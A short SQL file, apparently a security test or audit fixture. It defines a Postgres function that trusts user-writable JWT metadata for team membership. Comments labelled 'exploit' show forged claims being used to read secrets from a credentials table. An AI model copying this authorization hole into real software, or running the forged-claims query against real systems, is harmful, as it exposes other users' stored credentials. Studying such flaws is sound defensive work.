-- The teams come from user metadata in the token, a part that users can write, and not from the memberships.
-- about: my_teams, app.assistants
-- as: hf_assistants_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa",
-- exploit: "user_metadata": {"teams": ["22222222-2222-2222-2222-222222222222"]}}';
-- exploit: SELECT secret FROM app.tool_credentials;
-- shows: Road-secret-password
-- Saves a query for every statement.
CREATE OR REPLACE FUNCTION private.my_teams() RETURNS SETOF uuid
LANGUAGE sql STABLE SECURITY DEFINER SET search_path = '' AS $$
  SELECT m.team_id FROM app.team_members m WHERE m.user_id = auth.uid()
  UNION
  SELECT t::uuid FROM jsonb_array_elements_text(coalesce(
    nullif(current_setting('request.jwt.claims', true), '')::jsonb #> '{user_metadata,teams}', '[]')) t
$$;
